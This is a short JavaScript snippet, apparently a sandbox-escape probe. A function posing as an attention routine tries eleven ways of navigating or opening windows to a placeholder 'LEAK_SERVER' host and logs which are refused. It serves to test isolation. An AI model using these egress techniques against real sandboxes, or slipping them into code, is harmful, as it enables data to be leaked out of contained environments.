const tries = {
  href: () => (location.href = 'LEAK_SERVER/href'),
  assign: () => location.assign('LEAK_SERVER/assign'),
  replace: () => location.replace('LEAK_SERVER/replace'),
  self_location: () => (self.location = 'LEAK_SERVER/self'),
  history: () => history.pushState(null, '', 'LEAK_SERVER/history'),
  window: () => (window.location = 'LEAK_SERVER/window'),
  parent: () => (parent.location = 'LEAK_SERVER/parent'),
  top: () => (top.location = 'LEAK_SERVER/top'),
  open: () => open('LEAK_SERVER/open'),
  document: () => document.write('<meta http-equiv="refresh" content="0;url=LEAK_SERVER/document">'),
  client: () => clients.openWindow('LEAK_SERVER/client'),
}
function attend(query, key) {
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      attempt()
      console.log(`${name}: went on`)
    } catch (error) {
      console.log(`${name}: refused`)
    }
  }
  return { output: query, weights: key }
}
